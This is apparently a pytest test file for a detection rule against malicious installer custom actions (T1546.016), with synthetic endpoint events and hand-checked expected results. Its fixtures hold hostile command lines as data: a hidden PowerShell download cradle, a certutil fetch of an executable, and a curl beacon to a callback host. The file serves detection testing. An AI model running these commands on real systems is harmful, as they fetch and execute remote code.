"""The seed rule (T1546.016) and its corrected version over the seed page's
three scenarios and benign look-alikes, with hand-checked results.

Every test runs on each engine (``ENGINES``)."""

from __future__ import annotations

import pytest

import cqlmatch
from cqlmatch.runtime.query import ENGINES

from ..conftest import ROOT, SEED

CORRECTED = ROOT / "rules" / "t1546_016.cql"
AID_WIN = "4f1e2d3c4b5a69788796a5b4c3d2e1f0"
AID_LIN = "0a1b2c3d4e5f60718293a4b5c6d7e8f9"


def pr2(parent: str, child: str, cmd: str, host="WIN-HR-07", user="alice", aid=AID_WIN):
    return {
        "event_simpleName": "ProcessRollup2",
        "aid": aid,
        "ComputerName": host,
        "UserName": user,
        "ParentBaseFileName": parent,
        "FileName": child,
        "CommandLine": cmd,
    }


def net(image: str, remote: str, host="WIN-HR-07", aid=AID_WIN):
    return {
        "event_simpleName": "NetworkConnectIP4",
        "aid": aid,
        "ComputerName": host,
        "ImageFileName": image,
        "RemoteAddressIP4": remote,
        "RemotePort": "443",
    }


MSI = r"\Device\HarddiskVolume3\Windows\System32\msiexec.exe"
CRADLE = "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
CUSTOM_ACTION = r"cmd.exe /c echo ok > C:\Windows\Temp\custom_action_test.txt"
CERTUTIL = "certutil.exe -urlcache -split -f http://203.0.113.9/p.exe p.exe"

# Scenario 1: MSI custom action spawning PowerShell with a download cradle
# (twice), plus msiexec calling back to a public address.
SCENARIO_MSI_POWERSHELL = [
    pr2("msiexec.exe", "powershell.exe", CRADLE),
    pr2("msiexec.exe", "powershell.exe", CRADLE),
    net(MSI, "203.0.113.50"),
]
# Scenario 2: pip install -> python running setup.py -> curl callback.
SCENARIO_PIP_PYTHON_CURL = [
    pr2("bash", "pip", "pip install evil-pkg", host="lin-build-2", user="ci", aid=AID_LIN),
    pr2("pip", "python3", "python3 setup.py install", host="lin-build-2", user="ci", aid=AID_LIN),
    pr2(
        "python3",
        "curl",
        "curl -s https://callback.example.net/beacon",
        host="lin-build-2",
        user="ci",
        aid=AID_LIN,
    ),
]
# Scenario 3: silent MSI install whose custom action runs cmd.exe.
SCENARIO_MSI_SILENT_CMD = [
    pr2("explorer.exe", "msiexec.exe", "msiexec.exe /i C:\\Temp\\x.msi /quiet"),
    pr2("msiexec.exe", "cmd.exe", CUSTOM_ACTION),
]
# certutil download from an MSI custom action.
CERTUTIL_CHILD = [pr2("msiexec.exe", "certutil.exe", CERTUTIL)]
# Benign look-alikes: the rule must ignore the first four; the last two are
# false positives of the rule's unanchored regexes, asserted as such.
BENIGN = [
    pr2("explorer.exe", "ssh.exe", "ssh.exe admin@10.0.0.5"),
    pr2("Zoom.exe", "msiexec.exe", "msiexec.exe /i ZoomInstaller.msi /qn"),
    net(MSI, "10.20.30.40"),
    net(MSI, "192.168.1.10"),
    pr2(
        "aptitude",
        "sh",
        "sh -c /usr/lib/update-notifier/update-motd",
        host="lin-web-1",
        user="root",
        aid=AID_LIN,
    ),
    pr2("msiexec.exe", "ssh.exe", "ssh.exe -V"),
]
ALL = (
    SCENARIO_MSI_POWERSHELL
    + SCENARIO_PIP_PYTHON_CURL
    + SCENARIO_MSI_SILENT_CMD
    + CERTUTIL_CHILD
    + BENIGN
)


def row(host, user, kind, parent, child, cmd, remote, count):
    return {
        "ComputerName": host,
        "UserName": user,
        "EventType": kind,
        "ParentBaseFileName": parent,
        "FileName": child,
        "CommandLine": cmd,
        "RemoteAddressIP4": remote,
        "EventCount": str(count),
    }


# Hand-computed: groups in first-appearance order, then a stable sort by
# EventCount descending.
EXPECTED_CORRECTED = [
    row(
        "WIN-HR-07",
        "alice",
        "INSTALLER_DOWNLOAD_CRADLE",
        "msiexec.exe",
        "powershell.exe",
        CRADLE,
        "-",
        2,
    ),
    row("WIN-HR-07", "-", "INSTALLER_NETWORK_CALLBACK", "-", "-", "-", "203.0.113.50", 1),
    row(
        "WIN-HR-07",
        "alice",
        "INSTALLER_SCRIPT_CHILD",
        "msiexec.exe",
        "cmd.exe",
        CUSTOM_ACTION,
        "-",
        1,
    ),
    row(
        "WIN-HR-07",
        "alice",
        "INSTALLER_ENCODED_EXECUTION",
        "msiexec.exe",
        "certutil.exe",
        CERTUTIL,
        "-",
        1,
    ),
    row(
        "lin-web-1",
        "root",
        "INSTALLER_SCRIPT_CHILD",
        "aptitude",
        "sh",
        "sh -c /usr/lib/update-notifier/update-motd",
        "-",
        1,
    ),
    row(
        "WIN-HR-07",
        "alice",
        "INSTALLER_SCRIPT_CHILD",
        "msiexec.exe",
        "ssh.exe",
        "ssh.exe -V",
        "-",
        1,
    ),
]


@pytest.fixture(params=ENGINES)
def engine(request) -> str:
    return request.param


def corrected() -> cqlmatch.CompiledQuery:
    return cqlmatch.compile(CORRECTED.read_text(encoding="utf-8"), strict=True)


def seed() -> cqlmatch.CompiledQuery:
    return cqlmatch.compile(SEED.read_text(encoding="utf-8"))


def test_corrected_rule_is_logscale_valid() -> None:
    # No extension (W30x) and no groupBy problem (W310): the remaining
    # warnings are the lints of the original regexes, kept on purpose so the
    # corrected rule classifies as the page describes (docs/seed-rule.md).
    codes = sorted({d.code for d in corrected().diagnostics})
    assert codes == ["W320", "W330"]


def test_lints_on_the_seed_rule() -> None:
    found = {
        (d.code, d.span.line)
        for d in seed().diagnostics
        if d.code.startswith("W3") and d.code >= "W320"
    }
    assert ("W330", 6) in found  # 'sh' in the child-process regex
    assert ("W330", 4) in found  # 'apt', 'rpm', 'yum' in the parent regex
    assert ("W332", 20) in found  # '::1' in an IPv4 regex
    assert ("W320", 19) in found  # NetworkConnectIP4 events carry no ImageFileName


def test_corrected_rule_classifies_the_scenarios(engine: str) -> None:
    assert corrected().run(ALL, engine=engine) == EXPECTED_CORRECTED


def test_corrected_rule_misses_pip_python_curl(engine: str) -> None:
    # Neither pip nor python3 is an installer parent the rule knows, so the
    # chain goes unseen (docs/seed-rule.md).
    assert corrected().run(SCENARIO_PIP_PYTHON_CURL, engine=engine) == []


def test_corrected_rule_ignores_benign_look_alikes(engine: str) -> None:
    rows = corrected().run(BENIGN[:4], engine=engine)
    assert rows == []


def test_corrected_rule_per_event_classification(engine: str) -> None:
    q = corrected()
    assert (
        q.match(SCENARIO_MSI_POWERSHELL[0], engine=engine)["EventType"]
        == "INSTALLER_DOWNLOAD_CRADLE"
    )
    assert (
        q.match(SCENARIO_MSI_POWERSHELL[2], engine=engine)["EventType"]
        == "INSTALLER_NETWORK_CALLBACK"
    )
    assert (
        q.match(SCENARIO_MSI_SILENT_CMD[1], engine=engine)["EventType"] == "INSTALLER_SCRIPT_CHILD"
    )
    assert q.match(CERTUTIL_CHILD[0], engine=engine)["EventType"] == "INSTALLER_ENCODED_EXECUTION"
    assert q.match(SCENARIO_MSI_SILENT_CMD[0], engine=engine) is None
    assert q.match(BENIGN[2], engine=engine) is None


def test_seed_as_written_parses_with_warnings() -> None:
    codes = [d.code for d in seed().diagnostics]
    assert "W301" in codes  # positional then/else in if()
    assert "W302" in codes  # drop() without fields
    assert "W303" in codes  # a filter as the if() condition
    assert "W310" in codes  # groupBy can return no rows


def test_seed_groupby_warning_names_the_missing_fields() -> None:
    (warning,) = [d for d in seed().diagnostics if d.code == "W310"]
    assert "ProcessRollup2 events lack RemoteAddressIP4" in warning.message
    assert "NetworkConnectIP4 events lack UserName, ParentBaseFileName, FileName, CommandLine" in (
        warning.message
    )
    assert warning.span.line == 24
    assert warning.fix is not None and warning.fix.startswith(
        'default(value="-", field=[ComputerName'
    )


def test_seed_strict_mode_rejects_the_extensions() -> None:
    with pytest.raises(cqlmatch.CQLCompileError) as info:
        cqlmatch.compile(SEED.read_text(encoding="utf-8"), strict=True)
    codes = {d.code for d in info.value.errors}
    assert {"W301", "W302"} <= codes


def test_seed_as_written_yields_no_rows(engine: str) -> None:
    # Every event reaching groupBy lacks at least one group field:
    # ProcessRollup2 has no RemoteAddressIP4, NetworkConnectIP4 no
    # ParentBaseFileName, FileName, CommandLine or UserName.
    assert seed().run(ALL, engine=engine) == []


def test_seed_as_written_classifies_per_event_as_intended(engine: str) -> None:
    q = seed()
    assert (
        q.match(SCENARIO_MSI_POWERSHELL[0], engine=engine)["EventType"]
        == "INSTALLER_DOWNLOAD_CRADLE"
    )
    assert q.match(CERTUTIL_CHILD[0], engine=engine)["EventType"] == "INSTALLER_ENCODED_EXECUTION"
    assert (
        q.match(SCENARIO_MSI_SILENT_CMD[1], engine=engine)["EventType"] == "INSTALLER_SCRIPT_CHILD"
    )
    # The network branch uses NOT on a regex: a private address is excluded.
    assert q.match(BENIGN[2], engine=engine) is None
    assert (
        q.match(SCENARIO_MSI_POWERSHELL[2], engine=engine)["EventType"]
        == "INSTALLER_NETWORK_CALLBACK"
    )
    # `* | drop()` (the cqlmatch extension) drops everything else.
    assert q.match(SCENARIO_MSI_SILENT_CMD[0], engine=engine) is None


CATEGORIES = ROOT / "rules" / "t1546_016_categories.cql"


@pytest.mark.parametrize("engine", ENGINES)
def test_categories_summary_counts_what_the_corrected_rule_keeps(engine: str) -> None:
    """rules/t1546_016_categories.cql (the main job's table) classifies as the
    corrected rule does: its counts are those of the corrected rule's kept
    events by EventType, before the corrected rule's sort keeps 200 rows."""
    from collections import Counter

    from cqlmatch.lang.events import Event, parse_line
    from cqlmatch.runtime.engine import VMEngine
    from cqlmatch.synth.gen import generate_lines

    lines = [line.decode() for line in generate_lines(20_000, seed=31, malicious_rate=0.02)]
    rows = cqlmatch.compile(CATEGORIES.read_text(encoding="utf-8")).run(lines, engine=engine)
    corrected = cqlmatch.compile(CORRECTED.read_text(encoding="utf-8"))
    kept = VMEngine(corrected.checked, corrected.tables).machine.run(
        [Event(parse_line(line), line) for line in lines]
    )
    expected = Counter(event.fields["EventType"] for event in kept)
    assert {row["EventType"]: int(row["Events"]) for row in rows} == expected
    assert [row["EventType"] for row in rows] == sorted(expected)
    assert len(rows) == 4
